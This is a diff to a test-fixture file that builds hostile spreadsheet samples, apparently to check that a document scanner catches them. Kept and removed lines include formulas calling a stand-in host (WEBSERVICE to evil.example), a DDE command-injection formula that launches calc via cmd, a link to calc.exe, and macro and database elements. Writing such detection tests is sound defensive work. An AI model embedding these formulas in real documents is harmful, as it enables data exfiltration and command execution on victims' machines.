@@ -15,7 +15,6 @@ import { attachedPdf } from '../../../support/pdf/make';
 import { blip, emfWith, eps, packedBlip, packedKinds } from '../../../support/pictures';
 import { shape, shapeProperties, wideName } from '../../../support/word-pictures';
 import { wordFile } from '../../../support/word97';
-import { zip } from '../../../support/zip';
 import { evaluate } from './formulas';
 import type { Hostile } from './hostile';
 
@@ -32,16 +31,6 @@ export const workbook = (part: string) =>
 /** A part of a workbook, with prefixes for newer elements and for those that nobody knows. */
 export const sheet = (content: string, attributes = '') =>
   `<worksheet xmlns="${main}" xmlns:mc="${compatibility}" xmlns:q="urn:q" xmlns:p="${main}" mc:Ignorable="q" ${attributes} xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns:c="${chart}">${content}</worksheet>`;
-
-/** A document of LibreOffice with prefixes for all that has formulas. */
-export const openSheet = (content: string, kind = 'spreadsheet') =>
-  zip([
-    { name: 'mimetype', data: `application/vnd.oasis.opendocument.${kind}`, method: 0 },
-    {
-      name: 'content.xml',
-      data: `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" xmlns:q="urn:q">${content}</office:document-content>`,
-    },
-  ]);
 
 const fetching = '_xlfn.WEBSERVICE("http://evil.example")';
 const quoted = fetching.replaceAll('"', '&quot;');
@@ -105,39 +94,6 @@ const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
     ),
     'a formula that fetches',
   ],
-];
-
-const open = quoted.replace('_xlfn.', 'COM.MICROSOFT.');
-
-const inOpenDocuments = [
-  `<table:table-cell table:formula="of:=${open}"/>`,
-  `<table:table-cell q:anything="of:=${open}"/>`,
-  `<table:table-cell q:anything="msoxl:=${open}"/>`,
-  `<table:named-expression table:name="a" table:expression="of:=${open}"/>`,
-  `<table:named-expression table:name="a" table:expression="${open}"/>`,
-  `<calcext:condition calcext:value="formula-is(${open})"/>`,
-  `<calcext:formatting-entry calcext:type="formula" calcext:value="${open}"/>`,
-  `<style:map style:condition="is-true-formula(${open})"/>`,
-  `<table:content-validation table:condition="of:cell-content-is-between(1;${open})"/>`,
-  `<text:expression text:formula="ooow:${open}"/>`,
-  '<table:table-cell table:formula="of:=INDIRECT([.A1])"/>',
-  '<table:table-cell table:formula="of:=ORG.EXAMPLE.IS([.A1])"/>',
-  '<table:table-cell table:formula="of:=HYPERLINK(&quot;file:///c:/windows/system32/calc.exe&quot;)"/>',
-  '<table:table-cell table:formula="of:=[http://evil.example/a.ods#S.A1]"/>',
-  `<table:table-cell table:formula="msoxl:=cmd|'/c calc'!A0"/>`,
-];
-
-const asking = [
-  ...['dde-connection', 'dde-connection-decl', 'dde-connection-decls', 'database-display', 'database-next'],
-  ...['database-name', 'database-row-number', 'database-source-sql'],
-];
-
-const openSheets: typeof workbooks = [
-  ...inOpenDocuments.map((content): (typeof workbooks)[number] => {
-    return [content, openSheet(content), 'a formula that fetches'];
-  }),
-  ...asking.map((name): (typeof workbooks)[number] => [name, openSheet(`<text:${name}/>`, 'text'), 'from a database']),
-  ['execute-macro', openSheet('<text:execute-macro/>', 'text'), 'controls'],
 ];
 
 const source = (...data: (number | string)[]): OldRecord => [
@@ -243,7 +199,6 @@ const attached = (end: string, files: typeof workbooks): Hostile[] =>
 
 export const hostileWorkbooks: Hostile[] = [
   ...attached('xlsx', workbooks),
-  ...attached('ods', openSheets),
   ...attached('xls', oldWorkbooks),
   ...drawnRecords.flatMap(({ what, records, because }): Hostile[] => {
     const data = wordFile({ text: 'CV' }, { 'ObjectPool/_1/Workbook': oldRecords(records) });
